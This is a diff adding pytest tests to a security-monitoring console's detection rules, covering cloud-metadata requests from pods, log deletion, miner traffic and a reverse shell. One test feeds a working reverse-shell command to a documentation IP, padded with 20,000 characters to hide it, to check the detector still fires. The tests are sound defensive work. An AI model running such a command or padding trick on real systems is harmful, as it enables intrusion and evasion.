@@ -16,6 +16,7 @@ from console.rules.compiling import RuleSet
 from console.rules.detector import Detector
 from console.rules.loading import load_rule
 from console.rules.offline import detect, shipped_rules
+from console.rules.stories import Storyteller
 from console.rules.translating import load_meanings
 from tests.console.model.envelopes.test_falco import SHELL
 from tests.console.model.envelopes.test_tetragon import PROCESS, caught
@@ -70,8 +71,12 @@ def test_a_higher_priority_of_the_cluster_counts() -> None:
         (caught("sys_write", {"int_arg": 5}, policy_name="Terminal shell in container"),
          "TETRAGON-TERMINAL-SHELL-IN-CONTAINER", "D95"),
         (caught("sys_write", {"int_arg": 5}), "TETRAGON-WATCH", ""),
+        (caught("security_file_permission", {"file_arg": {"path": "/etc/pki/tls/cert.pem"}}), "TETRAGON-WATCH", ""),
+        (caught("security_file_permission", {"file_arg": {"path": "/var/log/app.log"}}), "TETRAGON-WATCH", ""),
+        (caught("security_inode_unlink", {"file_arg": {"path": "/var/log/auth.log"}}), "TETRAGON-WATCH", "D65"),
     ],
-    ids=["by its argument", "by its function", "no policy's name", "by its policy", "unknown"],
+    ids=["by its argument", "by its function", "no policy's name", "by its policy", "unknown",
+         "an authority", "a log", "a log removed"],
 )  # fmt: skip
 def test_what_a_tetragon_policy_caught_is_understood_where_it_can_be(record: bytes, rule: str, entry: str) -> None:
     (one,) = Detector(RuleSet(())).sense(told(record))
@@ -106,6 +111,25 @@ def test_a_scan_counts_the_ports_of_each_host_apart() -> None:
     assert "FLOW-PORT-SCAN" in found(*(flow("10.0.0.9", port) for port in range(1, 31)))
     assert "FLOW-PORT-SCAN" not in found(*(flow(f"10.0.0.{port}", port) for port in range(1, 31)))
     assert "FLOW-PORT-SCAN" not in found(*(flow("10.0.0.9", 80) for _ in range(60)))
+
+
+def test_two_pods_that_do_the_same_are_two_findings_and_no_company() -> None:
+    """Sensors name no user. As one finding, an attacker's pod would hide behind an agent's everyday question."""
+
+    def asked(pod: str, second: int) -> dict[str, Any]:
+        return {"flow": {
+            "time": f"2026-11-23T07:00:{second:02}Z", "verdict": "FORWARDED", "traffic_direction": "EGRESS",
+            "IP": {"destination": "169.254.169.254"}, "l4": {"TCP": {"destination_port": 80}},
+            "source": {"namespace": "shop", "pod_name": pod}, "destination": {},
+        }}  # fmt: skip
+
+    detector, teller = Detector(shipped_rules()), Storyteller()
+    detector.sense(told(asked("agent-1", 1), asked("web-1", 2), asked("web-1", 3), asked("agent-1", 4)))
+    found = [one for one in detector.findings() if one.rule == "FLOW-METADATA"]
+    assert sorted((one.who.pod, one.count) for one in found) == [("shop/agent-1", 2), ("shop/web-1", 2)]
+    assert len({one.id for one in found}) == 2
+    teller.feed(found)
+    assert len(set(map(id, teller._of.values()))) == 2
 
 
 def test_a_rule_for_a_source_that_nobody_reads_is_a_fault(tmp_path: Path) -> None:
@@ -159,3 +183,14 @@ def test_the_audit_trail_and_sensors_tell_one_story(tmp_path: Path) -> None:
     assert by_rule["FLOW-MINER"]["severity"] == "high"
     assert by_rule["RUN-TOKEN"]["severity"] == "high", "its rule says medium"
     assert by_rule["FLOW-MINER"]["target"]["name"] == "TCP 203.0.113.9:3333 pool.supportxmr.com"
+
+
+def test_a_long_filling_pushes_no_command_out_of_sight() -> None:
+    process = {
+        **PROCESS,
+        "binary": "/bin/sh",
+        "arguments": f"-c ': {'x' * 20_000}; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
+    }
+    detector = Detector(shipped_rules())
+    detector.sense(told({"process_exec": {"process": process}, "node_name": "n", "time": "2026-11-23T07:00:00Z"}))
+    assert "RUN-REVERSE-SHELL" in {one.rule for one in detector.findings()}
